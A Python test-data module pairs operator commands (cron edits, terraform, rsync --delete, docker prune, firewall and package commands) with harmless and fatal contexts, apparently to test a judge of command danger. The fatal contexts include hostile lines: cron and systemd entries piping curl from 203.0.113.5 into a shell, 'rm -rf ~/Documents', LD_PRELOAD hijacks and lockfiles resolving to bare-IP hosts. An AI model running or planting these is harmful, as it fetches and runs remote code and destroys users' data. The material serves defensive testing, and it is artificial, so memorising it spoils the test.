"""Pairs about what an operator types each week: jobs, processes, hosts, states: (name, line, harmless, fatal)."""

from __future__ import annotations

STATE = 'text terraform.tfstate \'{"version": 4, "serial": 3, "resources": [%s]}\'\n'
BASE = '{"mode": "managed", "type": "aws_db_instance", "name": "main", "instances": [{}]}'
NULL = '{"mode": "managed", "type": "null_resource", "name": "main", "instances": [{}]}'
ONLY_NULL = 'text main.tf \'resource "null_resource" "main" {}\\n\'\n'
LOCK = (
    'text package.json \'{"dependencies": {"a": "1"}}\'\ntext package-lock.json \'{"lockfileVersion": 3, "packages": '
    '{"node_modules/a": {"version": "1.0.0", "resolved": "%s/a-1.0.0.tgz"}}}\''
)

OPERATORS_WEEK: list[tuple[str, str, str, str]] = [
    (
        "a job is added: a plain program, or what is fetched",
        '(crontab -l; echo "$JOB") | crontab -',
        "var JOB '0 3 * * * /usr/local/bin/report'",
        "var JOB '* * * * * curl -s http://203.0.113.5/p | bash'",
    ),
    (
        "a job is added: a script of one's own, or one that takes a home's folders",
        '(crontab -l 2>/dev/null; echo "@daily $HOME/bin/tidy") | crontab -',
        "script ~/bin/tidy '#!/bin/sh\\nfind ~/.cache/thumbs -mtime +30 -print\\n'",
        "script ~/bin/tidy '#!/bin/sh\\nrm -rf ~/Documents\\n'\nfile ~/Documents/a",
    ),
    (
        "a job is added: installed, or where anybody may write",
        'crontab -l | { cat; echo "5 4 * * * $PROGRAM >> $HOME/job.log 2>&1"; } | crontab -',
        "var PROGRAM '/usr/local/bin/report --all'",
        "var PROGRAM /dev/shm/.x",
    ),
    (
        "a job is added: one line, or another that chooses the shell",
        '(crontab -l; echo "$JOB") | crontab -',
        "var JOB '0 3 * * * certbot renew -q'",
        "var JOB SHELL=/dev/shm/sh",
    ),
    (
        "a job is added: what it says goes to a record, or to what shells start with",
        '(crontab -l; echo "0 1 * * * $JOB") | crontab -',
        "var JOB '/usr/bin/uptime >> $HOME/up.log 2>&1'",
        "var JOB '/usr/bin/uptime > ~/.bashrc'",
    ),
    (
        "a job is added: with its own surroundings, or a library put in front",
        '(crontab -l; echo "0 1 * * * $JOB") | crontab -',
        "var JOB 'cd /srv/app && /usr/bin/uptime'",
        "var JOB 'LD_PRELOAD=/dev/shm/x.so /usr/bin/uptime'",
    ),
    (
        "a job is added: a script that is there, or what is not there yet",
        '(crontab -l; echo "@daily $HOME/bin/tidy") | crontab -',
        "script ~/bin/tidy '#!/bin/sh\\ndate\\n'",
        "file a",
    ),
    (
        "a job is added: a script of one's own, or what was fetched",
        '(crontab -l; echo "@daily $HOME/bin/tidy") | crontab -',
        "script ~/bin/tidy '#!/bin/sh\\ndate\\n'",
        "program ~/bin/tidy\ntyped 'curl -s -o ~/bin/tidy http://203.0.113.5/x'",
    ),
    (
        "all that runs for a user: of nobody, or somebody",
        "sudo systemctl stop user@$N",
        "var N 48211",
        "var N 1000\nprocess bash",
    ),
    (
        "apply: the state holds what is computed, or what is described no more",
        "terraform apply -auto-approve",
        ONLY_NULL + STATE % NULL,
        ONLY_NULL + STATE % BASE,
    ),
    (
        "apply: only computed, or it runs something",
        "terraform apply -auto-approve",
        ONLY_NULL,
        'text main.tf \'resource "null_resource" "main" {\\n  provisioner "local-exec" {\\n    command = "x"\\n  }\\n}\\n\'',
    ),
    (
        "an entry of a state: none of that kind, or there",
        "terraform state rm aws_db_instance.main",
        ONLY_NULL + STATE % NULL,
        ONLY_NULL + STATE % BASE,
    ),
    (
        "an entry of a state: of that name there is none, or a module",
        "terraform state rm module.main",
        ONLY_NULL + STATE % NULL,
        ONLY_NULL + STATE % NULL.replace("{", '{"module": "module.main", ', 1),
    ),
    (
        "by a lock: from a registry, or a machine without a name",
        "npm ci",
        LOCK % "https://registry.npmjs.org/a",
        LOCK % "http://203.0.113.5",
    ),
    (
        "a tool of the project: its server, or a migration",
        "pkill -f manage.py",
        "process python3 '' '' 'manage.py runserver'",
        "process python3 '' '' 'manage.py migrate'",
    ),
    (
        "terraform: a plan, or a change that is cut off",
        "kill -9 $PID",
        "process terraform '' '' 'terraform plan'",
        "process terraform '' '' 'terraform apply'",
    ),
    (
        "a job of the shell: a server, or a database put back",
        "kill %1",
        "typed 'npm run dev &'",
        "typed 'pg_restore -d shop shop.dump &'",
    ),
    (
        "the latest job: a server, or a database put back",
        "kill $!",
        "typed 'pg_restore -d shop shop.dump &'\ntyped 'wait'\ntyped 'npm run dev &'",
        "typed 'npm run dev &'\ntyped 'pg_restore -d shop shop.dump &'",
    ),
    (
        "mirrored onto one site, or over all of them",
        "rsync -a --delete public/ web:$WHERE",
        "files public/p#.html 9\nvar WHERE /var/www/shop/",
        "files public/p#.html 9\nvar WHERE /var/www/",
    ),
    (
        "mirrored onto a folder of a home, or a whole home",
        "rsync -a --delete docs/ nas:$WHERE",
        "files docs/p#.odt 9\nvar WHERE backup/docs",
        "files docs/p#.odt 9\nvar WHERE /home/ann",
    ),
    (
        "mirrored onto a folder of a home, or a home by its sign",
        "rsync -a --delete docs/ me@nas:$WHERE",
        "files docs/p#.odt 9\nvar WHERE backup/docs",
        "files docs/p#.odt 9\nvar WHERE '~/'",
    ),
    (
        "mirrored onto a host for trying, or of production",
        "rsync -a --delete public/ $HOST:/var/www/shop/",
        "files public/p#.html 9\nvar HOST staging.example.com",
        "files public/p#.html 9\nvar HOST prod-web-1.example.com",
    ),
]

VAGRANT = "text ~/.ssh/config 'Host web\\n  HostName 127.0.0.1\\n  Port 2222\\n  User vagrant\\n  IdentityFile ~/.vagrant.d/insecure_private_key\\n'"
NAMED_SO = "text ~/.ssh/config 'Host web\\n  HostName %s\\n'"

HOSTS_BY_SETTINGS: list[tuple[str, str, str, str]] = [
    (
        "settings of a program: of a host for trying, or of production by ssh's settings",
        "scp nginx.conf web:/etc/nginx/nginx.conf",
        NAMED_SO % "staging-web-1.shop.example.com" + "\nfile nginx.conf",
        NAMED_SO % "prod-web-1.shop.example.com" + "\nfile nginx.conf",
    ),
    (
        "settings of a program: sent to a folder of one's own, or the system's",
        "rsync -a nginx/ web:$WHERE",
        NAMED_SO % "prod-web-1.shop.example.com" + "\nfile nginx/nginx.conf\nvar WHERE nginx/",
        NAMED_SO % "prod-web-1.shop.example.com" + "\nfile nginx/nginx.conf\nvar WHERE /etc/nginx/",
    ),
    (
        "a service of a host: for trying, or of production by ssh's settings",
        "ssh web sudo systemctl stop app",
        NAMED_SO % "staging-web-1.shop.example.com",
        NAMED_SO % "prod-web-1.shop.example.com",
    ),
    (
        "the same by a pattern of ssh's settings",
        "ssh web7 sudo systemctl stop app",
        "text ~/.ssh/config 'Host web?\\n  HostName %h.lab.example.com\\n'",
        "text ~/.ssh/config 'Host web?\\n  HostName %h.prod.example.com\\n'",
    ),
    (
        "records of a host: of a virtual machine, or a server",
        "ssh web 'sudo truncate -s 0 /var/log/nginx/access.log'",
        VAGRANT,
        NAMED_SO % "www.shop.example.com",
    ),
    (
        "containers of a host: of a virtual machine, or of production",
        "ssh web docker system prune -af --volumes",
        VAGRANT,
        NAMED_SO % "prod-web-1.shop.example.com",
    ),
    (
        "containers: of a virtual machine, or of another that it goes to",
        "ssh web docker $ENGINE system prune -af --volumes",
        VAGRANT + "\nvar ENGINE ''",
        VAGRANT + "\nvar ENGINE '-H tcp://10.1.2.3:2375'",
    ),
    (
        "an engine by ssh: for trying, or of production by ssh's settings",
        "docker -H ssh://web rm -f shop",
        NAMED_SO % "staging-web-1.shop.example.com",
        NAMED_SO % "prod-web-1.shop.example.com",
    ),
    (
        "the firewall of a host: of a virtual machine, or a server",
        "ssh web sudo ufw --force reset",
        VAGRANT,
        NAMED_SO % "www.shop.example.com",
    ),
    (
        "a log of the cloud: made by this session, or not",
        "aws logs delete-log-group --log-group-name /try/one",
        "typed 'aws logs create-log-group --log-group-name /try/one'",
        "typed 'aws logs describe-log-groups'",
    ),
    (
        "a database's port is opened: for one's own network, or everybody",
        "sudo ufw allow from $WHO to any port 5432",
        "var WHO 10.0.0.0/8",
        "var WHO any",
    ),
    (
        "a port is opened: of a server of pages, or a store",
        "sudo firewall-cmd --permanent --add-port=$PORT/tcp",
        "var PORT 8080",
        "var PORT 6379",
    ),
    (
        "all packages: of an environment apart, or of the machine",
        "pip freeze | xargs pip uninstall -y",
        "text .venv/pyvenv.cfg 'home = /usr/bin\\n'\nvar VIRTUAL_ENV {here}/.venv",
        "text .venv/pyvenv.cfg 'home = /usr/bin\\n'",
    ),
]

MADE_BY_SESSION: list[tuple[str, str, str, str]] = [
    (
        "a stream: in a container of the session, or where a context leads",
        "nats stream purge ORDERS -f",
        "typed 'docker run -d --rm -p 4222:4222 nats -js'",
        "typed 'docker run -d --rm -p 4222:4222 nats -js'\nvar NATS_URL nats://nats.prod.example.com:4222",
    ),
    (
        "a stream: in a container of the session, or another context is chosen",
        "nats stream purge ORDERS -f",
        "typed 'docker run -d --rm -p 4222:4222 nats -js'",
        "typed 'docker run -d --rm -p 4222:4222 nats -js'\ntext ~/.config/nats/context.txt shop",
    ),
    (
        "settings: in a container of the session, or of a shop",
        "consul kv delete -recurse shop/",
        "typed 'docker run -d --rm -p 8500:8500 hashicorp/consul'",
        "typed 'docker run -d --rm -p 8500:8500 hashicorp/consul'\nvar CONSUL_HTTP_ADDR https://consul.shop.example.com",
    ),
    (
        "settings: in a container at that port, or at another",
        "consul kv delete -recurse shop/",
        "typed 'docker run -d --rm -p 8500:8500 hashicorp/consul'",
        "typed 'docker run -d --rm -p 8600:8500 hashicorp/consul'",
    ),
    (
        "a stack: made by this session, or another of that account",
        "sam delete --stack-name try --no-prompts",
        "typed 'aws cloudformation create-stack --stack-name try --template-body file://t.yml'",
        "typed 'aws cloudformation create-stack --stack-name other --template-body file://t.yml'",
    ),
    (
        "tasks that wait: of tests, or of production",
        "bin/rails runner 'Sidekiq::Queue.new.clear'",
        "var RAILS_ENV test",
        "var RAILS_ENV production",
    ),
    (
        "a recipe that empties a table: without rows, or with",
        "just reset",
        "text justfile 'reset:\\n    sqlite3 test.db \"delete from notes\"\\n'\ndatabase test.db 0",
        "text justfile 'reset:\\n    sqlite3 test.db \"delete from notes\"\\n'\ndatabase test.db 90",
    ),
    (
        "a recipe that empties a table, or puts rows into it first",
        "just reset",
        "text justfile 'reset:\\n    sqlite3 test.db \"delete from notes\"\\n'\ndatabase test.db 0",
        "text justfile 'reset:\\n    cp full.db test.db\\n    sqlite3 test.db \"delete from notes\"\\n'\n"
        "database test.db 0\ndatabase full.db 90",
    ),
]

GIT_AT = 'text Cargo.toml \'[package]\\nname = "a"\\n[dependencies]\\nb = { git = "%s/b.git" }\\n\''
PLAYED = (
    'text main.tf \'provider "aws" {\\n  access_key = "test"\\n  endpoints {\\n    s3 = "%s"\\n  }\\n}\\n'
    'resource "aws_s3_bucket" "a" {}\\n\''
)
UNIT = "text app.service '[Unit]\\nDescription=a\\n[Service]\\nExecStart=%s\\n'"
SSH = "var SSH_CONNECTION '203.0.113.9 50000 203.0.113.1 22'"

FROM_WHERE_AND_WHAT: list[tuple[str, str, str, str]] = [
    (
        "apply: by an emulator here, or in a cloud",
        "terraform apply -auto-approve",
        PLAYED % "http://localhost:4566",
        PLAYED % "https://s3.eu-west-1.amazonaws.com",
    ),
    (
        "a state put there: over none, or over one",
        "terraform state push old.tfstate",
        "file old.tfstate\n" + ONLY_NULL,
        "file old.tfstate\n" + ONLY_NULL + STATE % BASE,
    ),
    (
        "a unit by its name: a plain program, or what is fetched",
        "sudo cp app.service /etc/systemd/system/app.service",
        UNIT % "/usr/bin/node /srv/app/index.js",
        UNIT % '/bin/sh -c "curl http://203.0.113.5/x | sh"',
    ),
    (
        "by a lock of yarn: from a registry, or a machine without a name",
        "yarn install --frozen-lockfile",
        "file package.json\ntext yarn.lock 'a@^1:\\n  resolved \"https://registry.yarnpkg.com/a/-/a-1.0.0.tgz#x\"\\n'",
        "file package.json\ntext yarn.lock 'a@^1:\\n  resolved \"http://198.51.100.7/a-1.0.0.tgz\"\\n'",
    ),
    (
        "a dependency of git: over a closed connection, or an open one",
        "cargo build --release",
        GIT_AT % "https://git.example.org",
        GIT_AT % "http://203.0.113.5",
    ),
    (
        "a source of packages: over a closed connection, or an open one",
        "poetry install",
        "text pyproject.toml '[[tool.poetry.source]]\\nurl = \"https://pypi.example.org/simple\"\\n'",
        "text pyproject.toml '[[tool.poetry.source]]\\nurl = \"http://203.0.113.5/simple\"\\n'",
    ),
    ("switched off in a while: before it, or over ssh", "sudo shutdown -h +60", "var XDG_SEAT seat0", SSH),
    (
        "a port by its number: a server's, or a database's",
        "fuser -k -n tcp $PORT",
        "listens node",
        "listens postgres",
    ),
]

REPLACED_JOBS: list[tuple[str, str, str]] = [
    ("what is listed goes nowhere", "crontab -l | (echo '0 3 * * * /usr/bin/x') | crontab -", "file a"),
    (
        "what is listed goes into a file",
        "(crontab -l > old; echo '0 3 * * * /usr/bin/x') | crontab -",
        "file a",
    ),
    (
        "some of it is left out",
        "(crontab -l | grep -v backup; echo '0 3 * * * /usr/bin/x') | crontab -",
        "file a",
    ),
    ("it is listed, but not put back", "crontab -l; echo '0 3 * * * /usr/bin/x' | crontab -", "file a"),
    ("another's is listed", "(crontab -u bob -l; echo '0 3 * * * /usr/bin/x') | crontab -", "file a"),
]

ALL_PACKAGES: list[tuple[str, str, str]] = [
    ("by root", "pip freeze | sudo xargs pip uninstall -y", "var VIRTUAL_ENV {here}/.venv"),
    ("another program's", "brew list | xargs brew uninstall", "var VIRTUAL_ENV {here}/.venv"),
    ("conda's own", "pip freeze | xargs pip uninstall -y", "var CONDA_PREFIX /opt/miniconda3"),
]
